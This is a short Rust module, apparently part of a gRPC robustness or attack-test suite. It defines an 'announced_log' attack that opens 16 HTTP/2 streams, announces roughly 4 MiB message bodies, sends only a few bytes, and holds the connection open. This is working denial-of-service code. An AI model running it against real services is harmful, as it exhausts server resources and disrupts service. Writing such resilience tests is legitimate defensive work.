//! Access-log streams that announce 4 MiB each and send a few bytes.

use crate::attack::Attack;
use crate::wire::{LOG, call, data, hold, preface};
use tokio::time::sleep;

pub(super) const ATTACK: Attack = Attack {
    name: "announced_log",
    is_quick: false,
    edges: 0,
    run: |target, duration| {
        Box::pin(async move {
            let mut bytes = preface();
            for call_number in 0..16 {
                let stream = 2 * call_number + 1;
                bytes.extend(call(stream, LOG));
                bytes.extend(data(stream, &[0, 0, 0x3f, 0xff, 0xff]));
                bytes.extend(data(stream, &[8, 1]));
            }
            let _held = hold(target.grpc, &bytes, 200).await;
            sleep(duration).await;
        })
    },
};
